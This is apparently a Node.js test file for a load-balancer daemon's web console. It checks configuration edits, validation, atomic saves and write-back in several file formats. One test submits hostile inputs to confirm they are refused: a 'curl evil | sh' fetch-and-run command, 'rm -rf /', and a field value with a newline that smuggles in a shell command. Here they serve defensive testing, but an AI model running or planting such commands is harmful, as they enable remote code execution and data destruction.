import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync, chmodSync, writeFileSync } from 'node:fs';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadConfig } from '../../../src/config';
import { DEADTIME_MS } from '../../../src/config/defaults';
import { saveAtomically } from '../../../src/web/configfile';
import { applyEdit, lvsCfKeyAt, mapDiagnostics, yamlPathAt } from '../../../src/web/edit';
import { call, type Client, type Env, login, makeEnv } from './fixture';

async function config(env: Env, c: Client) {
  const r = await call(env.web, c, 'GET', '/api/config');
  assert.equal(r.statusCode, 200, r.body);
  return r.json() as {
    version: string;
    path: string;
    format: string;
    serial: number;
    virtualServers: { name: string; realServers: { name: string }[] }[];
  };
}

describe('web console: configuration edits', () => {
  let env: Env;
  let c: Client;
  afterEach(async () => {
    await env.cleanup();
  });

  describe('YAML file', () => {
    beforeEach(async () => {
      env = await makeEnv();
      c = await login(env.web);
    });

    it('saves a valid edit atomically, keeps the previous version, bumps serial_no, reloads, audits', async () => {
      const before = readFileSync(env.configPath, 'utf8');
      chmodSync(env.configPath, 0o640);
      const cfg = await config(env, c);
      assert.equal(cfg.format, 'yaml');
      const r = await call(env.web, c, 'PUT', '/api/config/redundancy', {
        version: cfg.version,
        fields: { 'heartbeat.deadtimeMs': '300', 'heartbeat.keepaliveMs': 50 },
      });
      assert.equal(r.statusCode, 200, r.body);
      const body = r.json();
      assert.equal(body.previous, `${env.configPath}.prev`);
      assert.deepEqual(body.reload, { ok: true, changes: {} });
      assert.equal(readFileSync(`${env.configPath}.prev`, 'utf8'), before, 'previous version kept');
      const { model } = loadConfig(env.configPath);
      assert.equal(model.heartbeat.deadtimeMs, 300);
      assert.equal(model.heartbeat.keepaliveMs, 50);
      assert.equal(model.serialNo, 2);
      assert.equal(statSync(env.configPath).mode & 0o777, 0o640, 'mode kept');
      assert.deepEqual(
        readdirSync(env.dir).filter((f) => f.startsWith('.')),
        [],
        'no temp file left',
      );
      assert.deepEqual(env.daemon.commands, [{ cmd: 'reload' }]);
      const audit = env.log.records.find((x) => x.msg === 'web: config saved')!;
      // The file leaves deadtime to the shipped default; the edit sets it to 300.
      assert.ok(
        String(audit.fields.changes).includes(`"field":"heartbeat.deadtimeMs","from":${DEADTIME_MS},"to":300`),
        String(audit.fields.changes),
      );
      assert.equal(audit.fields.user, 'admin');
    });

    it('returns a validator error at its field with the line, and writes nothing', async () => {
      const before = readFileSync(env.configPath, 'utf8');
      const cfg = await config(env, c);
      const r = await call(env.web, c, 'PUT', '/api/config/virtual/http/real/rs2', {
        version: cfg.version,
        fields: { weight: '-5', address: '198.18.1.300' },
      });
      assert.equal(r.statusCode, 422, r.body);
      const errors = r.json().errors as { field?: string; line?: number; message: string }[];
      const w = errors.find((e) => e.field === 'weight');
      const a = errors.find((e) => e.field === 'address');
      assert.ok(w && a, JSON.stringify(errors));
      // Lines of rs2 (the second real server, near the end) in the text that would have been written.
      assert.ok(a.line! > 80 && w.line === a.line! + 2, JSON.stringify(errors));
      assert.match(a.message, /^must be an IPv4/);
      assert.match(w.message, /^must be an integer ≥ 0/);
      assert.equal(readFileSync(env.configPath, 'utf8'), before);
      assert.deepEqual(env.daemon.commands, [], 'no reload of a refused edit');
      assert.ok(env.log.records.some((x) => x.msg === 'web: config edit refused'));
    });

    it('reports type errors, read-only program fields and control characters at the field', async () => {
      const cfg = await config(env, c);
      const r = await call(env.web, c, 'PUT', '/api/config/virtual/http', {
        version: cfg.version,
        fields: {
          port: 'eighty',
          'monitor.sendProgram': '/bin/sh -c "curl evil | sh"',
          name: 'web\nactive_cmd = /bin/sh',
        },
      });
      assert.equal(r.statusCode, 422);
      const byField = Object.fromEntries(
        (r.json().errors as { field: string; message: string }[]).map((e) => [e.field, e.message]),
      );
      assert.match(byField.port!, /whole number/);
      assert.match(byField['monitor.sendProgram']!, /never from the web/);
      assert.match(byField.name!, /control characters/);
      const g = await call(env.web, c, 'PUT', '/api/config/global', {
        version: cfg.version,
        fields: { 'hooks.activeCmd': '/tmp/x' },
      });
      assert.equal(g.statusCode, 422);
      const lm = await call(env.web, c, 'PUT', '/api/config/virtual/http', {
        version: cfg.version,
        fields: { 'monitor.loadMonitor': 'rm -rf /' },
      });
      assert.equal(lm.statusCode, 422);
      assert.match(lm.json().errors[0].message, /commands are set in the file/);
    });

    it('refuses an edit made on a stale version (409)', async () => {
      const cfg = await config(env, c);
      writeFileSync(env.configPath, `${readFileSync(env.configPath, 'utf8')}\n# edited by hand\n`);
      const r = await call(env.web, c, 'PUT', '/api/config/global', {
        version: cfg.version,
        fields: { logLevel: 'debug' },
      });
      assert.equal(r.statusCode, 409);
    });

    it('adds, edits, deactivates and deletes virtual and real servers', async () => {
      let cfg = await config(env, c);
      let r = await call(env.web, c, 'POST', '/api/config/virtual', {
        version: cfg.version,
        fields: {
          name: 'https',
          'vip.address': '198.18.0.10',
          'vip.prefixLength': '24',
          port: '443',
          scheduler: 'rr',
        },
      });
      assert.equal(r.statusCode, 200, r.body);
      cfg = await config(env, c);
      r = await call(env.web, c, 'POST', '/api/config/virtual/https/real', {
        version: cfg.version,
        fields: { name: 'rs1', address: '198.18.1.21', weight: '3' },
      });
      assert.equal(r.statusCode, 200, r.body);
      cfg = await config(env, c);
      r = await call(env.web, c, 'PUT', '/api/config/virtual/https/real/rs1', {
        version: cfg.version,
        fields: { active: false },
      });
      assert.equal(r.statusCode, 200, r.body);
      let m = loadConfig(env.configPath).model;
      const vs = m.virtualServers.find((v) => v.name === 'https')!;
      assert.equal(vs.port, 443);
      assert.equal(vs.scheduler, 'rr');
      assert.deepEqual(
        vs.realServers.map((x) => [x.name, x.port, x.weight, x.active]),
        [['rs1', 443, 3, false]],
      );
      cfg = await config(env, c);
      r = await call(env.web, c, 'POST', '/api/config/virtual', {
        version: cfg.version,
        fields: { name: 'https', 'vip.address': '198.18.0.10' },
      });
      assert.equal(r.statusCode, 422);
      assert.equal(r.json().errors[0].field, 'name');
      r = await call(env.web, c, 'DELETE', '/api/config/virtual/https/real/rs1', { version: cfg.version });
      assert.equal(r.statusCode, 200, r.body);
      cfg = await config(env, c);
      r = await call(env.web, c, 'DELETE', '/api/config/virtual/https', { version: cfg.version });
      assert.equal(r.statusCode, 200, r.body);
      m = loadConfig(env.configPath).model;
      assert.deepEqual(
        m.virtualServers.map((v) => v.name),
        ['http'],
      );
      assert.equal(m.serialNo, 6);
      r = await call(env.web, c, 'DELETE', '/api/config/virtual/nope', {
        version: (await config(env, c)).version,
      });
      assert.equal(r.statusCode, 404);
    });

    it('keeps send/expect escapes through the form', async () => {
      const r = await call(env.web, c, 'GET', '/api/config');
      const vs = r.json().virtualServers[0];
      const send = vs.fields.find((f: { id: string }) => f.id === 'monitor.send');
      assert.equal(send.value, 'GET / HTTP/1.0\\r\\n\\r\\n');
      const put = await call(env.web, c, 'PUT', '/api/config/virtual/http', {
        version: r.json().version,
        fields: Object.fromEntries(
          vs.fields
            .filter((f: { readOnly: boolean }) => !f.readOnly)
            .map((f: { id: string; value: unknown }) => [f.id, f.value]),
        ),
      });
      assert.equal(put.statusCode, 200, put.body);
      assert.equal(
        loadConfig(env.configPath).model.virtualServers[0]!.monitor.send,
        'GET / HTTP/1.0\r\n\r\n',
      );
    });

    it('needs the daemon to know which file to edit when --config is not given', async () => {
      await env.daemon.server.close();
      const r = await call(env.web, c, 'GET', '/api/config');
      assert.equal(r.statusCode, 502);
      assert.match(r.json().error, /cannot talk to the daemon/);
    });
  });

  describe('with --config', () => {
    beforeEach(async () => {
      env = await makeEnv({ passConfigPath: true });
      c = await login(env.web);
    });

    it('saves even when the daemon is down, and says the reload was not applied', async () => {
      await env.daemon.server.close();
      const cfg = await config(env, c);
      const r = await call(env.web, c, 'PUT', '/api/config/global', {
        version: cfg.version,
        fields: { logLevel: 'debug' },
      });
      assert.equal(r.statusCode, 200, r.body);
      assert.equal(r.json().reload.ok, false);
      assert.match(r.json().reload.error, /cannot talk to the daemon/);
      assert.equal(loadConfig(env.configPath).model.logLevel, 'debug');
    });
  });

  describe('lvs.cf file', () => {
    beforeEach(async () => {
      env = await makeEnv({ config: 'etc/lvs.cf' });
      c = await login(env.web);
    });

    it('writes lvs.cf back and maps lvs.cf diagnostics to fields', async () => {
      const cfg = await config(env, c);
      assert.equal(cfg.format, 'lvs.cf');
      let r = await call(env.web, c, 'PUT', '/api/config/global', {
        version: cfg.version,
        fields: { 'timeouts.tcp': '900' },
      });
      assert.equal(r.statusCode, 200, r.body);
      const text = readFileSync(env.configPath, 'utf8');
      assert.match(text, /^tcp_timeout = 900$/m);
      assert.equal(loadConfig(env.configPath).model.timeouts.tcp, 900);
      r = await call(env.web, c, 'PUT', '/api/config/redundancy', {
        version: (await config(env, c)).version,
        fields: { 'heartbeat.port': '70000' },
      });
      assert.equal(r.statusCode, 422, r.body);
      const e = r.json().errors[0];
      assert.equal(e.field, 'heartbeat.port');
      assert.ok(e.line > 0);
    });
  });
});

describe('web console: JSON configuration file', () => {
  let env: Env;
  afterEach(async () => {
    await env.cleanup();
  });

  it('writes JSON back and maps JSON diagnostics to fields', async () => {
    env = await makeEnv({ config: 'etc/lvs.json' });
    const c = await login(env.web);
    const cfg = await config(env, c);
    assert.equal(cfg.format, 'json');
    let r = await call(env.web, c, 'PUT', '/api/config/virtual/http', {
      version: cfg.version,
      fields: { scheduler: 'rr' },
    });
    assert.equal(r.statusCode, 200, r.body);
    const doc = JSON.parse(readFileSync(env.configPath, 'utf8'));
    assert.equal(doc.virtual_servers[0].scheduler, 'rr');
    r = await call(env.web, c, 'PUT', '/api/config/virtual/http', {
      version: (await config(env, c)).version,
      fields: { 'monitor.timeoutMs': '-1' },
    });
    assert.equal(r.statusCode, 422, r.body);
    assert.equal(r.json().errors[0].field, 'monitor.timeoutMs');
  });
});

describe('web console: edit core', () => {
  it('finds the key path of a YAML line by indentation', () => {
    const lines = [
      'a:',
      '  b: 1',
      'virtual_servers:',
      '  - name: web',
      '    vip:',
      '      address: x',
      '    real_servers:',
      '      - name: r',
      '        weight: -1',
    ];
    assert.deepEqual(yamlPathAt(lines, 5), ['virtual_servers', 'vip', 'address']);
    assert.deepEqual(yamlPathAt(lines, 8), ['virtual_servers', 'real_servers', 'weight']);
    assert.deepEqual(yamlPathAt(lines, 1), ['a', 'b']);
    assert.equal(lvsCfKeyAt('    weight = -1'), 'weight');
    assert.equal(lvsCfKeyAt('virtual http {'), 'virtual');
  });

  it('maps diagnostics to the longest matching field path, others stay form-level', () => {
    const text = ['vip:', '  address: 1.2.3.999', 'sorry_server:', '  address: 9.9.9.999', 'other: 1'].join(
      '\n',
    );
    const diags = [2, 4, 5].map((line) => ({
      file: 'f',
      line,
      col: 3,
      severity: 'error' as const,
      message: `bad ${line}`,
    }));
    const out = mapDiagnostics(diags, text, 'yaml', 'virtual');
    assert.deepEqual(
      out.map((e) => e.field),
      ['vip.address', 'sorryServer.address', undefined],
    );
    assert.equal(out[2]!.line, 5);
  });

  it('does not modify the input model and ignores fields of an absent optional group', () => {
    const { model } = loadConfig('etc/lvs.yaml');
    const copy = structuredClone(model);
    const r = applyEdit(model, {
      kind: 'redundancy',
      fields: { 'heartbeat.multicast.ttl': 5, 'backup.address': '' },
    });
    assert.ok(r.ok);
    assert.deepEqual(model, copy);
    assert.equal(r.model.heartbeat.multicast, undefined);
    assert.equal(r.model.backup, undefined, 'empty backup address removes the backup router');
    const d = applyEdit(model, {
      kind: 'virtual-edit',
      virtual: 'http',
      fields: {
        'monitor.dns.name': 'www.example.',
        'monitor.dns.type': '',
        'sorryServer.address': '198.18.1.99',
        'sorryServer.port': '',
      },
    });
    assert.ok(d.ok);
    assert.deepEqual(
      d.model.virtualServers[0]!.monitor.dns,
      { name: 'www.example.', type: 'A' },
      'a new group takes its defaults',
    );
    assert.deepEqual(d.model.virtualServers[0]!.sorryServer, { address: '198.18.1.99', port: 80 });
    const g = applyEdit(model, { kind: 'global', fields: { 'natRouter.address': '198.18.1.254', bogus: 1 } });
    assert.ok(!g.ok && g.errors.some((e) => /unknown field/.test(e.message)));
  });

  it('saveAtomically keeps the previous version', () => {
    const dir = mkdtempSync(join(tmpdir(), 'pulse-web-save-'));
    try {
      const p = join(dir, 'lvs.cf');
      writeFileSync(p, 'old\n', { mode: 0o600 });
      const r = saveAtomically(p, 'new\n');
      assert.equal(readFileSync(p, 'utf8'), 'new\n');
      assert.equal(readFileSync(r.previous, 'utf8'), 'old\n');
      assert.equal(statSync(p).mode & 0o777, 0o600);
      saveAtomically(p, 'newer\n');
      assert.equal(readFileSync(r.previous, 'utf8'), 'new\n');
      assert.deepEqual(readdirSync(dir).sort(), ['lvs.cf', 'lvs.cf.prev']);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
